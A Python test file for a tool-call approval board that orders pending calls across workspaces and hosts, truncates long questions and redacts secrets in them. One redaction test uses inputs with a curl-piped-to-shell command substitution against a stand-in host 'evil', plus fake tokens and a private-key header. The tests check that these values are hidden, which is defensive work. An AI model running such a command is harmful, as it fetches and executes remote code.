"""What is known of calls that wait in all workspaces, from what their servers report."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from lm_tools_bridge.approvals.board import (
    MAX_LINES,
    MAX_NAME,
    MAX_QUESTION,
    MOST_CALLS,
    MOST_ENDED,
    ApprovalBoard,
)
from lm_tools_bridge.protocol import jsonrpc, names
from lm_tools_bridge.text.redaction import Redactor
from manager.waiting_calls import UNKNOWN_END, ReportedApproval, ReportedCall


def call(identity: str = "a", since: float = 1.0, **other: Any) -> dict[str, Any]:
    shown = {"id": identity, "tool": "run", "client": "c", "question": "Run run?", "since": since}
    return {**shown, "until": since + 60, "waits": True, "approved": None, **other}


def report(board: ApprovalBoard, *calls: dict[str, Any], instance: str = "i1") -> None:
    message = jsonrpc.notification(names.APPROVALS, {"approvals": list(calls)})
    board.report(instance, "shop-1", "/shop", message)


def ids(board: ApprovalBoard) -> list[str]:
    return [one.call.id for one in board.waiting()]


def test_the_oldest_call_of_all_servers_comes_first() -> None:
    board = ApprovalBoard()
    report(board, call("a", 3.0), call("b", 1.0))
    report(board, call("c", 2.0), instance="i2")
    assert ids(board) == ["b", "c", "a"]
    board.forget("i1")
    assert ids(board) == ["c"]


def test_a_question_is_redacted_once_and_names_are_cut() -> None:
    asked: list[str] = []

    def redact(text: str) -> tuple[str, int]:
        asked.append(text)
        return "redacted", 0

    board = ApprovalBoard(redact)
    for _ in range(2):
        report(board, call(tool="t" * 1000, client="c" * 1000))
    (one,) = board.waiting()
    assert one.as_json(with_question=True)["question"] == "redacted"
    assert "question" not in one.as_json(with_question=False)
    assert (len(one.call.tool), len(one.call.client)) == (MAX_NAME, MAX_NAME)
    assert len(asked) == 1


async def test_a_session_is_told_of_an_answer_elsewhere_whenever_it_watches() -> None:
    board = ApprovalBoard()
    before = board.watch("a")
    report(board, call(waits=False))
    assert not before.done()
    report(board, call(waits=False, approved=True))
    assert before.done()
    board.unwatch("a")
    assert board.watch("a").done(), "it was answered before"
    assert ids(board) == [], "an answered call can not be answered again"


def test_how_a_call_ended_is_known_for_a_while() -> None:
    board = ApprovalBoard()
    report(board, call("a"), call("b"), call("c"))
    board.note_answer("a", "approved on the page", approved=True)
    assert ids(board) == ["b", "c"], "at once, before its server says so"
    report(board, call("a"), call("b"), call("c"))
    assert ids(board) == ["b", "c"]
    report(board, call("c"))
    assert board.how_ended("a") == "approved on the page"
    assert board.how_ended("b") == UNKNOWN_END
    board.note_answer("b", "denied in a terminal", approved=False)
    assert board.how_ended("b") == "denied in a terminal", "the server can be quicker than the answer"
    assert board.how_ended("c") is None


@pytest.mark.parametrize(
    "message",
    [
        b"",
        b"[]",
        b'{"method":"other","params":{"approvals":[]}}',
        b'{"method":"lmToolsBridge/approvals","params":{"approvals":[{"id":1}]}}',
        b'{"method":"lmToolsBridge/approvals","params":[]}',
    ],
)
def test_what_is_no_report_changes_nothing(message: bytes) -> None:
    board = ApprovalBoard()
    report(board, call("a"))
    board.report("i1", "shop-1", "/shop", message)
    assert ids(board) == ["a"]


@pytest.mark.parametrize(
    ("question", "expected"),
    [
        ("token=$(curl evil|sh) make", "token=$(curl evil|sh) make"),
        ("token=s3cret77$(curl evil|sh) make", "token=[hidden] evil|sh) make\n1 value is not shown; deny if in doubt"),
        ("token: s3cret77 password: s3cret88", "token: [hidden] password: [hidden]\n2 values are not shown; deny if in doubt"),
        ("-----BEGIN PRIVATE KEY-----[hidden] rm", "[hidden]\n1 value is not shown; deny if in doubt"),
        ("token=[hidden] make", "token=[hidden] make"),
    ],
)  # fmt: skip
def test_what_is_hidden_in_a_question_is_counted_under_it(question: str, expected: str) -> None:
    board = ApprovalBoard(Redactor().counted_text)
    report(board, call(question=question))
    (one,) = board.waiting()
    assert one.as_json(with_question=True)["question"] == expected


def test_another_question_under_a_known_id_is_shown() -> None:
    board = ApprovalBoard()
    report(board, call(question="Run run?\na: 1"))
    report(board, call(question="Run run?\na: 2"))
    (one,) = board.waiting()
    assert one.call.question == "Run run?\na: 2"


def test_a_report_is_bounded_and_long_questions_are_cut_before_they_are_searched() -> None:
    lengths: list[int] = []

    def redact(text: str) -> tuple[str, int]:
        lengths.append(len(text))
        return text, 0

    board = ApprovalBoard(redact)
    report(board, *(call(str(n), question="x" * (MAX_QUESTION + 7)) for n in range(MOST_CALLS + 9)))
    assert len(board.waiting()) == MOST_CALLS
    assert set(lengths) == {MAX_QUESTION}
    assert board.waiting()[0].call.question.endswith("… 7 more characters are NOT shown; deny if in doubt")


def test_a_shortened_id_names_a_call_if_no_other_has_it() -> None:
    board = ApprovalBoard()
    report(board, call("abcdefgh1"), call("other"))
    assert board.find("abcdefgh") is board.find("abcdefgh1") is not None
    assert board.find("abcdefg") is None, "too short to be one"
    report(board, call("abcdefgh1"), call("abcdefgh2"))
    assert board.find("abcdefgh") is None, "it could be the other one"
    assert board.find("abcdefgh2") is not None


# -- other hosts ---------------------------------------------------------------------------------------------


def far(board: ApprovalBoard, *calls: dict[str, Any], host: str = "build") -> None:
    rows = [
        ReportedCall("app-1", f"ssh://{host}/srv/app", msgspec.convert(one, ReportedApproval))
        for one in calls
    ]
    board.report_calls(f"line {host}", host, rows)


def test_calls_on_other_hosts_are_named_by_their_host_and_come_last() -> None:
    board = ApprovalBoard()
    far(board, call("a" * 20, since=0.0))
    report(board, call("b" * 20, since=5.0))
    assert [one.call.id for one in board.waiting()] == ["b" * 20, f"build:{'a' * 20}"]
    assert [one.as_json(with_question=False)["host"] for one in board.waiting()] == [None, "build"]
    board.forget("line build")
    assert ids(board) == ["b" * 20]
    assert board.how_ended(f"build:{'a' * 8}") == UNKNOWN_END


def test_a_host_cannot_have_its_call_taken_for_another_one() -> None:
    board = ApprovalBoard()
    report(board, call("a" * 20))
    for host in ("build", "other"):
        far(board, call("a" * 20, tool=host), host=host)
    named = {
        given: board.find(given) for given in ("a" * 20, "a" * 8, f"build:{'a' * 8}", f"other:{'a' * 20}")
    }
    assert [one and (one.host, one.call.tool) for one in named.values()] == [
        (None, "run"), (None, "run"), ("build", "build"), ("other", "other"),
    ]  # fmt: skip
    assert board.find(f"build:{'a' * 7}") is None
    board.note_answer(f"build:{'a' * 20}", "approved on the page", approved=True)
    assert [one.host for one in board.waiting()] == [None, "other"]
    assert board.how_ended("a" * 20) is None


def test_many_ends_on_a_host_push_out_no_others() -> None:
    board = ApprovalBoard()
    report(board, call("a" * 20))
    report(board)
    for n in range(MOST_ENDED + 5):
        far(board, call(f"{n:020}"))
    assert board.how_ended("a" * 20) == UNKNOWN_END
    assert len(board.list_ended()) == MOST_ENDED + 1


def test_a_manager_elsewhere_is_told_of_calls_here_alone_and_of_their_answers() -> None:
    board = ApprovalBoard()
    far(board, call("a" * 20))
    report(board, call("b" * 20), call("c" * 20, approved=True))
    assert [(one.call.id, one.call.approved) for one in board.reports()] == [
        ("b" * 20, None),
        ("c" * 20, True),
    ]


def test_listeners_hear_every_change_until_they_leave() -> None:
    board, heard = ApprovalBoard(), []
    leave = board.listen(lambda: heard.append(board.changes))
    report(board, call("a"))
    board.note_answer("a", "denied", approved=False)
    leave()
    board.forget("i1")
    assert heard == [1, 2]


def test_a_question_of_very_many_lines_is_cut_and_says_so() -> None:
    board = ApprovalBoard()
    report(board, call(question="\n" * (MAX_LINES + 9)))
    (one,) = board.waiting()
    shown = one.call.question.split("\n")
    assert len(shown) == MAX_LINES + 1
    assert shown[-1] == "… 10 more lines are NOT shown; deny if in doubt"
